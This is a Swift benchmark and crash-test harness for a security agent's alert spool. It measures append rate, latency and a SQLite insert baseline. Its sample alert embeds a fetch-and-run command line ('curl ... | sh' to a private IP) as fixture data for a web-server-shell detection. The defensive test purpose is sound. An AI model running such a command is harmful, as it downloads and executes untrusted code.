// Uses a spool as the agent does, for tests that kill it and for measurements, which are told as JSON:
//
//   SpoolTrials append FILE         appends alerts for ever, of which each has its number in this run as its message, and says
//                                   the sequence of the first, and up to which sequence all are on disk.
//   SpoolTrials rate FILE COUNT     how long it takes to get so many alerts onto disk.
//   SpoolTrials latency FILE COUNT  how long each takes when it comes alone.
//   SpoolTrials insert FILE COUNT GROUP
//                                   what SQLite alone needs for the same bytes, so many rows a transaction, into a table
//                                   without an index.
import CSQLite
import Delivery
import Engine
import Glibc
import Rules

func sample(_ number: UInt64) -> Alert {
  Alert(
    id: "4f2f6dc8d9d14d0bb1a7f3a1c7d1a9c0-\(number)-9f3c2a1b77e5d012", recordNumber: number,
    timestampNanoseconds: 1_795_508_100_123_456_789 &+ Int64(number), node: "node-1",
    rule: "Shell by a web server \(number % 20)", ruleDescription: "A shell that a web server started",
    priority: Priority(rawValue: UInt8(number % 8)) ?? .warning, tags: ["network", "T1059"], tenant: "m\(1000 + number % 50)",
    event: "execve", message: "\(number)",
    fields: [
      AlertField(name: "proc.name", value: .text("bash")), AlertField(name: "proc.pid", value: .integer(Int64(number))),
      AlertField(name: "proc.cmdline", value: .text("bash -c 'curl -s http://10.0.0.7/x | sh' " + String(repeating: "x", count: 200))),
      AlertField(name: "proc.exepath", value: .text("/usr/bin/bash")), AlertField(name: "proc.cwd", value: .text("/var/www")),
      AlertField(name: "user.uid", value: .integer(33)),
    ])
}

func say(_ text: String) {
  let bytes = Array("\(text)\n".utf8)
  _ = write(1, bytes, bytes.count)
}

func append(_ spool: Spool) -> Never {
  say("\(spool.status().lastSequence + 1)")
  var said = spool.status().committedSequence
  var number: UInt64 = 0
  while true {
    number += 1
    spool.append(sample(number))
    let committed = spool.status().committedSequence
    if committed != said { say("\(committed)") }
    said = committed
    // So that the disk keeps up.
    while spool.status().waiting > 200 { usleep(100) }
  }
}

func seconds(_ duration: Duration) -> Double {
  Double(duration.components.seconds) + Double(duration.components.attoseconds) * 1e-18
}

func rate(_ spool: Spool, _ count: UInt64) {
  let alerts = (1...count).map(sample)
  let start = ContinuousClock.now
  for (index, alert) in alerts.enumerated() {
    spool.append(alert)
    if index % 64 == 0 { while spool.status().waiting > 4000 { usleep(200) } }
  }
  while spool.status().waiting > 0 { usleep(100) }
  let taken = seconds(ContinuousClock.now - start)
  let status = spool.finish(timeoutMilliseconds: 10_000)
  let bytes = alerts.reduce(0) { $0 + JSONFormat.line(for: $1).count }
  say("""
    {"seconds": \(taken), "commits": \(status.commits), "committed": \(status.committed), "json_bytes": \(bytes), \
    "file_bytes": \(status.fileBytes)}
    """)
}

func latency(_ spool: Spool, _ count: UInt64) {
  let alerts = (1...count).map(sample)
  var taken: [Double] = []
  for alert in alerts {
    let start = ContinuousClock.now
    spool.append(alert)
    while spool.status().waiting > 0 { sched_yield() }
    taken.append(seconds(ContinuousClock.now - start))
  }
  say("{\"seconds\": [\(taken.map { "\($0)" }.joined(separator: ", "))]}")
}

func insert(_ path: String, _ count: UInt64, _ group: UInt64) {
  let bodies = (1...count).map { JSONFormat.line(for: sample($0)) }
  var database: OpaquePointer?
  sqlite3_open_v2(path, &database, SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE | SQLITE_OPEN_NOMUTEX, nil)
  sqlite3_exec(
    database, """
      PRAGMA journal_mode = WAL; PRAGMA synchronous = FULL; PRAGMA secure_delete = FAST; PRAGMA wal_autocheckpoint = 2048;
      CREATE TABLE alert (sequence INTEGER PRIMARY KEY, json TEXT NOT NULL)
      """, nil, nil, nil)
  var statement: OpaquePointer?
  sqlite3_prepare_v3(database, "INSERT INTO alert VALUES (?, ?)", -1, UInt32(SQLITE_PREPARE_PERSISTENT), &statement, nil)
  var each: [Double] = []
  var number: UInt64 = 0
  let start = ContinuousClock.now
  var last = start
  for body in bodies {
    if number % group == 0 { sqlite3_exec(database, "BEGIN IMMEDIATE", nil, nil, nil) }
    number += 1
    sqlite3_bind_int64(statement, 1, Int64(number))
    _ = body.withUnsafeBytes {
      sqlite3_bind_text64(statement, 2, $0.baseAddress?.assumingMemoryBound(to: CChar.self), UInt64($0.count), nil, UInt8(SQLITE_UTF8))
    }
    guard sqlite3_step(statement) == SQLITE_DONE else { fail("insert: \(String(cString: sqlite3_errmsg(database)))") }
    sqlite3_reset(statement)
    if number % group == 0 || number == count {
      guard sqlite3_exec(database, "COMMIT", nil, nil, nil) == SQLITE_OK else { fail("commit") }
      each.append(seconds(ContinuousClock.now - last))
      last = ContinuousClock.now
    }
  }
  let taken = seconds(ContinuousClock.now - start)
  sqlite3_finalize(statement)
  sqlite3_close_v2(database)
  let list = group == 1 ? each.map { "\($0)" }.joined(separator: ", ") : ""
  say("{\"total\": \(taken), \"seconds\": [\(list)]}")
}

func fail(_ text: String) -> Never {
  say(text)
  exit(1)
}

let arguments = CommandLine.arguments.dropFirst()
let numbers = arguments.dropFirst(2).compactMap { UInt64($0) }.filter { $0 > 0 }
guard let path = arguments.dropFirst().first, numbers.count == arguments.count - 2 else { fail("usage: see main.swift") }
do {
  let settings = SpoolSettings(path: path)
  switch (arguments.first, numbers.count) {
  case ("append", 0): append(try Spool(settings))
  case ("rate", 1): rate(try Spool(settings), numbers[0])
  case ("latency", 1): latency(try Spool(settings), numbers[0])
  case ("insert", 2): insert(path, numbers[0], numbers[1])
  default: fail("usage: see main.swift")
  }
} catch {
  fail("\(error)")
}
